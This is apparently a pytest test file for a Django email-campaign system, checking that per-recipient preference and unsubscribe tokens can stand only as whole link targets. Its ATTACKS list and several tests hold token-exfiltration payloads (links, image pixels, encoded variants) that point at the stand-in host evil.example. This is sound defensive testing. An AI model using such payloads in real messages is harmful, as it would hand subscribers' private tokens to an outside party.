"""P8, P13: a recipient's own links stand only as a whole link target, so a campaign
cannot send every recipient's preference or unsubscribe token to another address."""

from __future__ import annotations

import re
from datetime import timedelta

import pytest
from django.core.exceptions import ValidationError
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django_tasks_db.models import DBTaskResult

from campaigns.links import PersonalLinkMisplaced, message_links_check
from campaigns.models import Campaign, CampaignStatus, Delivery, DeliveryState
from campaigns.rendering import message_parts, render_campaign
from campaigns.services import (
    campaign_send_test,
    campaign_start,
)
from campaigns.tasks import campaign_schedule, campaign_start_scheduled
from campaigns.tests.factories import CampaignFactory, subscribed_customer
from core.testing import run_tasks
from subscriptions.models import Topic

pytestmark = pytest.mark.django_db

ATTACKS = [
    # the probe's own: the token as a query parameter of another site, in plain text
    "Na vizitoni: https://evil.example/?t=@@PREFERENCES_URL@@",
    "[Ofertat](https://evil.example/?t=@@PREFERENCES_URL@@)",
    "[x](https://evil.example/@@PREFERENCES_URL@@)",
    "[x](https://evil.example/(@@UNSUBSCRIBE_URL@@))",
    '<a href="https://evil.example/?t=@@PREFERENCES_URL@@">Ofertat</a>',
    '<a href="@@PREFERENCES_URL@@">raw HTML, even whole</a>',
    "![logo](https://evil.example/pixel.gif?t=@@PREFERENCES_URL@@)",
    '<img src="https://evil.example/pixel.gif?t=@@UNSUBSCRIBE_URL@@">',
    "![logo](@@PREFERENCES_URL@@)",
    # spelt with an entity: the HTML holds the slot once decoded
    "[x](https://evil.example/?t=&#64;@PREFERENCES_URL@@)",
    "<https://evil.example/@@UNSUBSCRIBE_URL@@>",
    "Kodi: `@@PREFERENCES_URL@@`",
    "@@PREFERENCES_URL@@",
]
LEGITIMATE = (
    "## Ofertat\n\nNdryshoni çfarë merrni: [Preferencat](@@PREFERENCES_URL@@). "
    "Ose [çregjistrohuni](@@UNSUBSCRIBE_URL@@)."
)
REFUSAL = "mund të qëndrojë vetëm si adresa e plotë e një lidhjeje Markdown"


def url(name: str, campaign: Campaign | None = None) -> str:
    args = [campaign.pk] if campaign is not None else []
    return reverse(f"admin:campaigns_campaign_{name}", args=args)


@pytest.fixture
def marketing(client: Client, staff_user) -> Client:  # type: ignore[no-untyped-def]
    client.force_login(staff_user)
    return client


def _form(**fields: str) -> dict[str, str]:
    return {
        "topic": Topic.OFFERS,
        "name": "Fushata e javës",
        "subject_sq": "Ofertat e javës",
        "body_sq": LEGITIMATE,
        "subject_en": "",
        "body_en": "",
        **fields,
    }


def _written_past_the_form(body: str, **fields: object) -> Campaign:
    """A campaign whose text no form checked (saved before the rule, or by a script)."""
    campaign = CampaignFactory(**fields)
    Campaign.objects.filter(pk=campaign.pk).update(body_sq=body)
    campaign.refresh_from_db()
    return campaign


# Saving: the form and the model.


@pytest.mark.parametrize("body", ATTACKS)
def test_p8_saving_a_campaign_with_a_personal_link_inside_another_address_is_refused(
    marketing, body
):
    response = marketing.post(url("add"), _form(body_sq=body))
    assert response.status_code == 200
    errors = response.context["adminform"].form.errors
    assert REFUSAL in " ".join(errors["body_sq"])
    assert not Campaign.objects.exists()


def test_p8_an_english_text_and_a_subject_are_checked_too(marketing):
    response = marketing.post(
        url("add"),
        _form(
            subject_sq="Preferencat tuaja: @@PREFERENCES_URL@@",
            subject_en="Offers",
            body_en="[Preferences](https://evil.example/?t=@@PREFERENCES_URL@@)",
        ),
    )
    errors = response.context["adminform"].form.errors
    assert "Subjekti nuk mund të përmbajë" in " ".join(errors["subject_sq"])
    assert REFUSAL in " ".join(errors["body_en"])
    assert not Campaign.objects.exists()


def test_p8_editing_a_draft_to_leak_the_link_is_refused_and_changes_nothing(marketing):
    campaign = CampaignFactory(body_sq=LEGITIMATE)
    response = marketing.post(url("change", campaign), _form(body_sq=ATTACKS[0]))
    assert response.status_code == 200
    assert REFUSAL in " ".join(response.context["adminform"].form.errors["body_sq"])
    campaign.refresh_from_db()
    assert campaign.body_sq == LEGITIMATE


@pytest.mark.parametrize("body", ATTACKS)
def test_p8_the_model_refuses_a_misplaced_personal_link(body):
    campaign = CampaignFactory.build(body_sq=body)
    with pytest.raises(ValidationError) as refused:
        campaign.full_clean()
    assert "body_sq" in refused.value.message_dict


def test_p8_a_personal_link_as_a_whole_link_target_is_saved(marketing):
    response = marketing.post(url("add"), _form(body_en=LEGITIMATE, subject_en="Offers"))
    assert response.status_code == 302
    campaign = Campaign.objects.get()
    assert campaign.body_sq == LEGITIMATE
    reference = "[Preferencat][p]\n\n[p]: @@PREFERENCES_URL@@"
    CampaignFactory.build(body_sq=reference).full_clean()


# Scheduling, starting and testing: the services refuse too.


def test_p8_scheduling_starting_and_testing_refuse_a_campaign_written_past_the_form(
    staff_user, smtp_server
):
    subscribed_customer([Topic.OFFERS], email="abonenti@example.al")
    campaign = _written_past_the_form(ATTACKS[0])
    tasks = DBTaskResult.objects.count()
    with pytest.raises(PersonalLinkMisplaced):
        campaign_start(campaign=campaign, actor=staff_user)
    with pytest.raises(PersonalLinkMisplaced):
        campaign_schedule(
            campaign=campaign, when=timezone.now() + timedelta(hours=1), actor=staff_user
        )
    with pytest.raises(PersonalLinkMisplaced):
        campaign_send_test(campaign=campaign, actor=staff_user)
    campaign.refresh_from_db()
    assert campaign.status == CampaignStatus.DRAFT and campaign.scheduled_for is None
    assert not Delivery.objects.exists()
    assert DBTaskResult.objects.count() == tasks
    assert smtp_server.messages == []


def test_p8_the_back_office_says_why_and_sends_nothing(marketing, smtp_server):
    subscribed_customer([Topic.OFFERS], email="abonenti@example.al")
    campaign = _written_past_the_form(ATTACKS[1])
    for action, data in (("send", {}), ("send_test", {"language": "sq"})):
        response = marketing.post(url(action, campaign), data, follow=True)
        text = " ".join(str(m) for m in response.context["messages"])
        assert REFUSAL in text and "asgjë nuk u dërgua" in text
    campaign.refresh_from_db()
    assert campaign.status == CampaignStatus.DRAFT
    assert smtp_server.messages == []


# Sending: the engine checks every finished message before any goes.


def test_p8_the_engine_stops_a_sending_campaign_whose_text_was_changed_to_leak(
    staff_user, smtp_server
):
    # given a campaign started safely, whose text is then changed past every form
    subscribed_customer([Topic.OFFERS], email="abonenti@example.al")
    campaign = CampaignFactory(body_sq=LEGITIMATE)
    campaign_start(campaign=campaign, actor=staff_user)
    Campaign.objects.filter(pk=campaign.pk).update(body_sq=ATTACKS[0])
    # when the send tasks run
    run_tasks()
    # then nothing went out, and the campaign is stopped
    assert smtp_server.messages == []
    campaign.refresh_from_db()
    assert campaign.status == CampaignStatus.CANCELLED
    assert set(Delivery.objects.values_list("state", flat=True)) == {DeliveryState.FAILED}


def test_p8_a_scheduled_campaign_changed_to_leak_does_not_start(staff_user, smtp_server):
    subscribed_customer([Topic.OFFERS], email="abonenti@example.al")
    campaign = CampaignFactory(body_sq=LEGITIMATE)
    campaign_schedule(
        campaign=campaign, when=timezone.now() + timedelta(minutes=1), actor=staff_user
    )
    Campaign.objects.filter(pk=campaign.pk).update(
        body_sq=ATTACKS[2], scheduled_for=timezone.now() - timedelta(seconds=1)
    )
    assert campaign_start_scheduled(campaign_id=campaign.pk) is False
    campaign.refresh_from_db()
    assert campaign.status == CampaignStatus.CANCELLED
    assert not Delivery.objects.exists()
    assert smtp_server.messages == []


def test_p8_a_finished_message_with_a_slot_in_another_address_is_refused():
    html = '<p><a href="https://evil.example/?t=@@PREFERENCES_URL@@">x</a></p>'
    with pytest.raises(PersonalLinkMisplaced):
        message_links_check(html=html, text="")
    with pytest.raises(PersonalLinkMisplaced):
        message_links_check(html="", text="https://evil.example/?t=@@PREFERENCES_URL@@")
    message_links_check(
        html='<a href="@@PREFERENCES_URL@@">p</a>', text="Preferencat: @@PREFERENCES_URL@@\n"
    )


# The legitimate link still works, and carries the recipient's own token only.


def test_p13_a_whole_preference_link_reaches_each_recipient_with_their_own_token(
    staff_user, smtp_server
):
    # given
    arta = subscribed_customer([Topic.OFFERS], email="arta@example.al")
    besa = subscribed_customer([Topic.OFFERS], email="besa@example.al")
    campaign = CampaignFactory(body_sq=LEGITIMATE)
    campaign.full_clean()
    rendered = render_campaign(campaign, "sq")
    parts = message_parts(rendered, campaign)
    message_links_check(html=parts.html, text=parts.text)
    # when
    campaign_start(campaign=campaign, actor=staff_user)
    run_tasks()
    # then each gets a link to their own preference page, as a link and as text
    preferences = re.compile(r"http://[^\s\"()<>]+/email/preferencat/([^/\s\"]+)/")
    tokens = {}
    for mail in smtp_server.messages:
        html, text = mail.part("html"), mail.part("plain")
        assert "@@" not in html and "@@" not in text
        in_body = re.search(
            r'href="(http://[^"]+/email/preferencat/[^"]+)"[^>]*>Preferencat<', html
        )
        assert in_body is not None
        assert f"[Preferencat]({in_body.group(1)})" in text
        tokens[mail.recipients[0]] = set(preferences.findall(html))
    assert len(tokens[arta.email]) == 1 and len(tokens[besa.email]) == 1
    assert tokens[arta.email] != tokens[besa.email]
